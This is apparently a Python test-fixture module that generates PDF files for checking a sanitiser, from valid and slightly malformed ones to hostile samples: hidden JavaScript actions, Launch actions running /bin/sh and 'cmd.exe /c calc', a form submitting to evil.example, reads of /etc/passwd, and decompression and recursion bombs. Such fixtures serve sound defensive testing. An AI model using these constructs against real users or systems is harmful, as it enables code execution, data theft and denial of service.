"""PDF files for tests: valid ones, and those that are made to harm whoever opens them."""

import io
import zlib
from collections.abc import Callable

import pikepdf
import typst
from pikepdf import Array, Dictionary, Name, Pdf, Stream

SCRIPT = {"/S": Name.JavaScript, "/JS": "app.alert(1)"}
RECTANGLE = [0, 0, 100, 100]


def made(change: Callable[[Pdf], object] = lambda pdf: None, pages: int = 1, **how) -> bytes:
    """Return a file of empty pages, with one change."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(420, 595))
    change(pdf)
    file = io.BytesIO()
    pdf.save(file, **how)
    return file.getvalue()


def written(*objects: bytes, entries: bytes = b"") -> bytes:
    """Return a file of raw objects: the first is the catalog, and nothing is corrected."""
    file, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(file))
        file += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(file)
    file += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    file += b"".join(b"%010d 00000 n \n" % place for place in places)
    file += b"trailer\n<</Size %d /Root 1 0 R %b>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, entries, start)
    return bytes(file)


def page_of(*objects: bytes, page: bytes = b"", catalog: bytes = b"") -> bytes:
    """Return a file with one raw page; further objects are numbered from 4."""
    return written(
        b"<</Type /Catalog /Pages 2 0 R %b>>" % catalog,
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] %b>>" % page,
        *objects,
    )


def packed(content: bytes, entries: bytes = b"") -> bytes:
    """Return a compressed stream object."""
    small = zlib.compress(content, 1)
    return b"<</Filter /FlateDecode /Length %d %b>>\nstream\n%b\nendstream" % (len(small), entries, small)


def bomb(megabytes: int, piece: bytes = b"\0" * 1000) -> bytes:
    """Return zlib data that decompresses to so many megabytes of one piece, a thousandth of it or less."""
    packer, block = zlib.compressobj(9), piece * (1_000_000 // len(piece))
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def bomb_stream(megabytes: int, entries: bytes = b"", piece: bytes = b"\0" * 1000) -> bytes:
    small = bomb(megabytes, piece)
    return b"<</Filter /FlateDecode /Length %d %b>>\nstream\n%b\nendstream" % (len(small), entries, small)


def annotated(**entries) -> bytes:
    """Return a page with one annotation."""

    def annotate(pdf: Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=RECTANGLE, **{"Subtype": Name.Link, **entries})
        pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])
        if annotation.Subtype == Name.Widget:
            pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].Annots)

    return made(annotate)


def with_catalog(**entries) -> bytes:
    return made(lambda pdf: [pdf.Root.__setitem__(f"/{key}", value) for key, value in entries.items()])


# --- Valid ---


def plain(title: str = "") -> bytes:
    return made(lambda pdf: pdf.docinfo.__setitem__("/Title", title) if title else None)


def accessible() -> bytes:
    """Return a tagged PDF/UA with a title, a language and links, made by Typst."""
    source = '#set document(title: "Report")\n#set text(lang: "fa")\n= Report\n#link("https://example.org/")[Forum]'
    return typst.compile(source.encode(), format="pdf", pdf_standards=["ua-1"])


def with_links() -> bytes:
    return annotated(A=Dictionary(S=Name.URI, URI="https://example.org/a?b=c"))


def with_relative_link() -> bytes:
    return annotated(A=Dictionary(S=Name.URI, URI="../fa/members/"))


def opened_at_a_page() -> bytes:
    return made(lambda pdf: pdf.Root.__setitem__("/OpenAction", Array([pdf.pages[1].obj, Name.Fit])), pages=3)


def opened_by_going_to_a_page() -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))

    return made(change, pages=3)


def names_that_look_bad() -> bytes:
    """Resource names are arbitrary: /JS and /AA are fonts here."""
    font = b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"
    return page_of(font, b"<</Length 0>>\nstream\n\nendstream", page=b"/Resources <</Font <</JS 4 0 R /AA 4 0 R>>>>")


def very_long() -> bytes:
    """Return a banner, whose cover shows only its beginning."""
    return made(lambda pdf: pdf.pages[0].__setitem__("/MediaBox", Array([0, 0, 100, 14_000])))


# --- Active content ---


def script_when_opened() -> bytes:
    return with_catalog(OpenAction=Dictionary(SCRIPT))


def script_in_the_names() -> bytes:
    return with_catalog(Names=Dictionary(JavaScript=Dictionary(Names=["a", Dictionary(SCRIPT)])))


def script_in_an_annotation() -> bytes:
    return annotated(A=Dictionary(SCRIPT))


def script_of_a_page() -> bytes:
    return made(lambda pdf: pdf.pages[0].__setitem__("/AA", Dictionary(O=Dictionary(SCRIPT))))


def script_after_a_harmless_action() -> bytes:
    """The action is a direct object nested in an array and dictionaries, none of which is an indirect object."""
    return annotated(A=Dictionary(S=Name.GoTo, D="here", Next=[Dictionary(S=Name.GoTo, Next=Dictionary(SCRIPT))]))


def script_in_an_object_stream() -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(SCRIPT))

    return made(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def script_in_a_stream() -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.Rendition, JS=Stream(pdf, b"app.alert(1)"))

    return made(change)


def script_under_an_escaped_name() -> bytes:
    return page_of(catalog=b"/OpenAction <</S /J#61va#53cript /J#53 (app.alert\\(1\\))>>")


def script_in_an_address() -> bytes:
    return annotated(A=Dictionary(S=Name.URI, URI=" javascript:alert(1)"))


def program_in_a_link() -> bytes:
    return annotated(A=Dictionary(S=Name.Launch, F="/bin/sh"))


def program_when_opened() -> bytes:
    return with_catalog(OpenAction=Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc")))


def form_that_sends() -> bytes:
    return annotated(Subtype=Name.Widget, FT=Name.Btn, A=Dictionary(S=Name.SubmitForm, F="https://evil.example/"))


def form_that_imports() -> bytes:
    return annotated(Subtype=Name.Widget, FT=Name.Btn, A=Dictionary(S=Name.ImportData, F="/etc/passwd"))


def dynamic_form() -> bytes:
    return with_catalog(AcroForm=Dictionary(Fields=[], XFA="<xdp/>"))


def embedded_file() -> bytes:
    return made(lambda pdf: pdf.attachments.__setitem__("a.exe", b"MZ"))


def attachment_note() -> bytes:
    return annotated(Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F="a.exe"))


def film() -> bytes:
    return annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())


def other_file_on_a_network_drive() -> bytes:
    return annotated(A=Dictionary(S=Name.GoToR, F=r"\\evil.example\share\a.pdf", D=[0, Name.Fit]))


def local_file_in_an_address() -> bytes:
    return annotated(A=Dictionary(S=Name.URI, URI="file:///etc/passwd"))


def content_from_another_file() -> bytes:
    return page_of(b"<</Length 0 /F (/etc/passwd)>>\nstream\n\nendstream", page=b"/Contents 4 0 R")


def address_opened_by_itself() -> bytes:
    return with_catalog(OpenAction=Dictionary(S=Name.URI, URI="https://evil.example/"))


# --- Encrypted, disguised, broken ---


def locked_for_readers() -> bytes:
    return made(encryption=pikepdf.Encryption(owner="owner", user="reader"))


def locked_for_editors() -> bytes:
    """Everybody can read it, but changing its restrictions takes a password."""
    return made(encryption=pikepdf.Encryption(owner="owner", user=""))


def web_page_and_pdf() -> bytes:
    return b"<html><script>alert(1)</script><!--\n" + plain()


def cut_in_its_table() -> bytes:
    whole = page_of()
    return whole[: whole.index(b"trailer") - 30] + b"\n%%EOF\n"


def noise() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 500 + b"\n%%EOF\n"


def table_that_points_at_itself() -> bytes:
    content = page_of()
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % content.index(b"xref\n0"))


def no_pages() -> bytes:
    return made(pages=0)


def no_catalog() -> bytes:
    return written(b"[1 2 3]")


def pages_that_are_something_else() -> bytes:
    return written(b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [(a) 7 /Page] /Count 3>>")


def page_tree_in_a_loop() -> bytes:
    return written(
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1>>",
    )


def page_that_is_its_own_kid() -> bytes:
    return written(b"<</Type /Catalog /Pages 2 0 R>>", b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2>>")


def name_with_a_stray_sign() -> bytes:
    return page_of(catalog=b"/A# 1")


# --- Valid files with minor errors, as many programs write them ---


def size_as_pdfunite_writes_it() -> bytes:
    return page_of().replace(b"/Size 4 ", b"/Size 9 ")


def entry_without_a_place_as_quartz_writes_it() -> bytes:
    whole = page_of(b"(four)", b"(five)")
    place = b"%010d 00000 n" % whole.index(b"5 0 obj")
    return whole.replace(place, b"0000000000 00000 n")


def table_that_does_not_name_itself() -> bytes:
    """A cross-reference stream, as most programs write today, that lacks an entry for itself."""
    bodies = [
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 420 595]>>",
    ]
    file, places = bytearray(b"%PDF-1.7\n"), [0]
    for number, body in enumerate(bodies, 1):
        places.append(len(file))
        file += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(file)
    rows = b"".join(bytes([number > 0]) + place.to_bytes(3, "big") + b"\0" for number, place in enumerate(places))
    entries = b"/Type /XRef /Size 5 /Index [0 4] /W [1 3 1] /Root 1 0 R /Length %d" % len(rows)
    file += b"4 0 obj\n<<%b>>\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (entries, rows, start)
    return bytes(file)


def key_given_twice() -> bytes:
    return page_of(page=b"/Rotate 90 /Rotate 0")


def stream_of_another_length() -> bytes:
    return page_of(b"<</Length 400>>\nstream\n0 0 100 100 re f\nendstream", page=b"/Contents 4 0 R")


def stream_without_its_length() -> bytes:
    return page_of(b"<</Type /Nothing>>\nstream\n0 0 100 100 re f\nendstream", page=b"/Contents 4 0 R")


def space_before_the_table() -> bytes:
    whole = page_of()
    place = whole.index(b"xref\n")
    return whole[:place] + b" " + whole[place:]


def page_shown_twice() -> bytes:
    return written(
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [3 0 R 3 0 R] /Count 2>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 420 595]>>",
    )


def script_behind_a_small_fault() -> bytes:
    return page_of(b"<</S /JavaScript /JS (app.alert\\(1\\))>>", catalog=b"/OpenAction 4 0 R").replace(
        b"/Size 5", b"/Size 9"
    )


def script_that_the_last_of_two_keys_shows() -> bytes:
    script = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"
    return page_of(script, catalog=b"/OpenAction [3 0 R /Fit] /OpenAction 4 0 R")


def script_in_a_stream_of_another_length() -> bytes:
    return page_of(b"<</S /JavaScript /JS 4 0 R /Length 900>>\nstream\napp.alert(1)\nendstream", catalog=b"/A 4 0 R")


# --- Bombs ---


def deep_page_tree(depth: int = 100_000) -> bytes:
    nodes = [b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % (number + 3) for number in range(depth)]
    return written(b"<</Type /Catalog /Pages 2 0 R>>", *nodes, b"<</Type /Page /MediaBox [0 0 100 100]>>")


def many_pages(number: int = 5_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(number))
    return written(
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Pages /Kids [%b] /Count %d>>" % (kids, number),
        *[b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 100 100]>>"] * number,
    )


def in_object_streams(bodies: list[bytes], first: int = 4, each: int = 50_000) -> bytes:
    """Return a file of one page and very many small objects in object streams, numbered from ``first``."""
    file = bytearray(b"%PDF-1.7\n")
    rows: list[tuple[int, int, int]] = [(0, 0, 0)]

    def add(number: int, body: bytes) -> None:
        rows.append((1, len(file), 0))
        file.extend(b"%d 0 obj\n%b\nendobj\n" % (number, body))

    add(1, b"<</Type /Catalog /Pages 2 0 R /Chain %d 0 R>>" % first)
    add(2, b"<</Type /Pages /Kids [3 0 R] /Count 1>>")
    add(3, b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 420 595]>>")
    streams = range(0, len(bodies), each)
    holder = first + len(bodies)
    rows += [(2, holder + n // each, n % each) for n in range(len(bodies))]
    for number, start in enumerate(streams, holder):
        part = bodies[start : start + each]
        heads, place = [], 0
        for n, body in enumerate(part):
            heads.append(b"%d %d" % (first + start + n, place))
            place += len(body) + 1
        head = b" ".join(heads) + b"\n"
        add(number, packed(head + b"\n".join(part), b"/Type /ObjStm /N %d /First %d" % (len(part), len(head))))
    start = len(file)
    rows.append((1, start, 0))
    table = b"".join(bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(3, "big") for kind, a, b in rows)
    entries = b"/Type /XRef /Size %d /W [1 4 3] /Root 1 0 R" % len(rows)
    file += b"%d 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(rows) - 1, packed(table, entries), start)
    return bytes(file)


def chain_of_references(length: int = 1_000_000) -> bytes:
    return in_object_streams([b"%d 0 R" % (5 + n) for n in range(length - 1)] + [b"null"])


def chain_of_dictionaries(length: int = 600_000) -> bytes:
    return in_object_streams([b"<</A %d 0 R>>" % (5 + n) for n in range(length - 1)] + [b"null"])


def page_of_five_kilometres() -> bytes:
    return made(lambda pdf: pdf.pages[0].__setitem__("/MediaBox", Array([0, 0, 10, 14_400_000])))


def drawing_a_picture(picture: bytes) -> bytes:
    return page_of(
        picture,
        packed(b"q 420 0 0 595 0 0 cm /P Do Q"),
        page=b"/Resources <</XObject <</P 4 0 R>>>> /Contents 5 0 R",
    )


def picture_without_end() -> bytes:
    entries = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8"
    return drawing_a_picture(bomb_stream(10, entries))


def picture_that_unpacks() -> bytes:
    """As many pixels as a scanned sheet of A0, 900 MB of them: harmless if it is read line by line."""
    entries = b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 8"
    return drawing_a_picture(bomb_stream(900, entries))


def drawing_that_unpacks(megabytes: int = 800) -> bytes:
    piece = b"0 0 m 9 9 l S\n"
    return page_of(bomb_stream(megabytes, piece=piece), page=b"/Contents 4 0 R")


def description_that_unpacks(megabytes: int = 800) -> bytes:
    return page_of(bomb_stream(megabytes, b"/Type /Metadata /Subtype /XML", b" " * 1000), catalog=b"/Metadata 4 0 R")


def nested_arrays(depth: int = 100_000) -> bytes:
    return page_of(b"[" * depth + b"]" * depth, catalog=b"/A 4 0 R")


def nested_states(depth: int = 5_000_000) -> bytes:
    return page_of(packed(b"q " * depth), page=b"/Contents 4 0 R")


def drawing_that_takes_for_ever(times: int = 400_000) -> bytes:
    """So many transparent layers over the whole page that rendering never ends."""
    state = b"/Resources <</ExtGState <</G <</ca 0.01 /BM /Luminosity>>>>>>"
    return page_of(packed(b"/G gs " + b"0 0 420 595 re f " * times), page=state + b" /Contents 4 0 R")


def drawing_that_draws_itself() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 420 595] /Resources <</XObject <</X 5 0 R>>>>"
    return page_of(
        packed(b"/X Do"), packed(b"/X Do /X Do", form), page=b"/Resources <</XObject <</X 5 0 R>>>> /Contents 4 0 R"
    )
